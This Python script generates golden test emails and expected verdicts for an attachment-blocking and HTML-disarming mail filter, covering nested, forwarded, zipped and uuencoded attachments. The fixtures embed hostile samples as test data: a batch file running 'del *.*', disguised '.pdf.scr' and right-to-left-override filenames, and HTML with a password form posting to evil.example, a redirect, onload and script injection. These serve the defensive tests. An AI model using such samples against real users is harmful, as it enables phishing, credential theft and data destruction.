#!/usr/bin/env python3
# Writes the golden test messages (*.eml) and their cases (*.json).
# Run from this directory; the messages are committed, so this is only
# needed to change them.
import zipfile
from genlib import b64, w, exe, pdf, mkzip

bat = b"@echo off\r\ndel *.*\r\n"

w("mixed", f"""From: Alice <alice@example.org>
To: bob@example.net
Subject: invoice
Date: Mon, 1 Jan 2024 10:00:00 +0000
Message-ID: <mixed@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

preamble
--b1
Content-Type: text/plain; charset=us-ascii

Please find the invoice attached.
--b1
Content-Type: application/x-msdownload; name="invoice.exe"
Content-Disposition: attachment; filename="invoice.exe"
Content-Transfer-Encoding: base64

{b64(exe)}
--b1
Content-Type: application/pdf; name="invoice.pdf"
Content-Disposition: attachment; filename="invoice.pdf"
Content-Transfer-Encoding: base64

{b64(pdf)}
--b1--
epilogue
""", crlf=True, case={"parts": [{"part": "1.2", "name": "invoice.exe", "action": "deny", "kind": "type", "rule": "type executable", "reason": "Executable"}],
                      "headers": ["X-Scandeliver-Status: blocked"], "subject_tags": ["{Blocked?}"]})

w("nested_alt", f"""From: a@example.org
To: b@example.net
Subject: nested
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

Hello
--alt
Content-Type: text/html; charset=utf-8

<p>Hello</p>
--alt--
--outer
Content-Type: application/octet-stream; name="tool.scr"
Content-Transfer-Encoding: base64

{b64(exe)}
--outer--
""", case={"parts": [{"part": "1.2", "name": "tool.scr", "action": "deny", "kind": "filename", "rule": "filename \\.scr$", "reason": "Screensaver"},
                     {"part": "1.1.2", "action": "deny", "kind": "infected", "rule": "infected", "reason": "Infected: Html.Phish"}]})

w("forwarded", f"""From: a@example.org
To: b@example.net
Subject: Fwd: stuff
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="f1"

--f1
Content-Type: text/plain

See below.
--f1
Content-Type: message/rfc822

From: c@example.com
To: a@example.org
Subject: stuff
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="f2"

--f2
Content-Type: text/plain

inner text
--f2
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="run.bat"
Content-Transfer-Encoding: base64

{b64(bat)}
--f2--
--f1--
""", case={"parts": [{"part": "1.2.1.2", "name": "run.bat", "action": "deny", "kind": "filename", "rule": "filename \\.bat$", "reason": "Batch file"}]})

zipped = mkzip([("readme.txt", b"hello\n"), ("setup.exe", exe), ("notes.txt.vbs", b"MsgBox 1\n")], zipfile.ZIP_STORED)
w("archive", f"""From: a@example.org
To: b@example.net
Subject: zipped
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="z1"

--z1
Content-Type: text/plain

zip attached
--z1
Content-Type: application/zip; name="files.zip"
Content-Disposition: attachment; filename="files.zip"
Content-Transfer-Encoding: base64

{b64(zipped)}
--z1--
""", crlf=True, case={"parts": [{"part": "1.2/2", "name": "setup.exe", "action": "deny", "kind": "type", "rule": "type executable", "reason": "Executable in archive"},
                                {"part": "1.2/3", "name": "notes.txt.vbs", "action": "rename", "kind": "filename", "rule": "filename \\.vbs$", "reason": "Script"}]})

w("single", f"""From: a@example.org
To: b@example.net
Subject: =?utf-8?q?caf=C3=A9?=
MIME-Version: 1.0
Content-Type: application/octet-stream; name="x.exe"
Content-Transfer-Encoding: base64
Content-Description: the tool
X-Mailer: test

{b64(exe)}
""", case={"parts": [{"part": "1", "name": "x.exe", "action": "deny", "kind": "type", "rule": "type executable", "reason": "Executable"}], "subject_tags": ["{Virus?}"]})

w("rename2231", f"""From: a@example.org
To: b@example.net
Subject: names
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="r1"

--r1
Content-Type: text/plain

names
--r1
Content-Type: application/octet-stream;
 name*0*=utf-8''r%C3%A9sum%C3%A9;
 name*1*=.pdf%20%20%20%20%20.scr
Content-Disposition: attachment;
 filename*0*=utf-8''r%C3%A9sum%C3%A9;
 filename*1*=.pdf%20%20%20%20%20.scr;
 size=12
Content-Transfer-Encoding: base64

{b64(b"not a screensaver")}
--r1
Content-Type: text/plain; name="=?utf-8?q?notes=2Etxt=2Evbs?="
Content-Disposition: attachment; filename="notes.txt.vbs"

MsgBox 1
--r1
Content-Type: application/octet-stream; name*=utf-8''long%20%E2%80%AEname%20of%20a%20file%20that%20is%20quite%20long%20indeed.js
Content-Transfer-Encoding: base64

{b64(b"alert(1)")}
--r1--
""", case={"parts": [{"part": "1.2", "action": "rename", "kind": "filename"},
                     {"part": "1.3", "action": "rename", "kind": "filename"},
                     {"part": "1.4", "action": "rename", "kind": "filename",
                      "new_name": "long \u202ename of a file that is quite long indeed.js.disarmed.and more text after it"}]})

html_qp = """<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/"></head>
<body onload="steal()"><p>Caf=C3=A9 <a href="javascript:alert(1)">click</a></p>
<script>alert(2)</script><img src="http://track.example/p.gif" width="1" height="1"></body></html>
"""
html_b64 = b'<html><body><form action="http://evil.example/"><input name=pw></form><iframe src="http://evil.example/"></iframe> caf\xe9</body></html>\n'
w("html", f"""From: a@example.org
To: b@example.net
Subject: html
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="h0"

--h0
Content-Type: multipart/alternative; boundary="h1"

--h1
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Caf=C3=A9 <script>alert(1)</script>
--h1
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable
Content-ID: <body@example.org>

{html_qp}--h1--
--h0
Content-Type: text/html; charset=iso-8859-1; name="page.html"
Content-Disposition: attachment; filename="page.html"
Content-Transfer-Encoding: base64

{b64(html_b64)}
--h0
Content-Type: text/html; charset=utf-8

<p>nothing to disarm here</p>
--h0--
""", crlf=True, case={"html": True})

w("subject", """From: a@example.org
To: b@example.net
Subject: =?iso-8859-1?q?r=E9union?= de
 l'=?utf-8?q?=C3=A9quipe?=
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

body
""", case={"subject_tags": ["{Vérolé?}", "{Spam?}"],
           "headers": ["X-Scandeliver-Status: infected (Eicar-Test-Signature)", "X-Spam-Flag: YES"]})

w("tagged", """From: a@example.org
To: b@example.net
Subject: {Spam?} already tagged
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

body
""", case={"subject_tags": ["{Spam?}"]})

w("uuencode", """From: a@example.org
To: b@example.net
Subject: uu
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="u1"

--u1
Content-Type: text/plain

Here is the file:

begin 644 evil.exe
#35H`
`
end

bye
--u1
Content-Type: text/plain

second text kept
--u1--
""", case={"parts": [{"part": "1.1/1", "name": "evil.exe", "action": "deny", "kind": "filename", "rule": "filename \\.exe$", "reason": "Executable"}]})

w("clean", """From: a@example.org
To: b@example.net
Subject: clean
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="c1"

--c1
Content-Type: text/plain

hi
--c1
Content-Type: text/html

<p>hi</p>
--c1--
""", case={"html": True, "headers": ["X-Scandeliver-Status: clean"]})
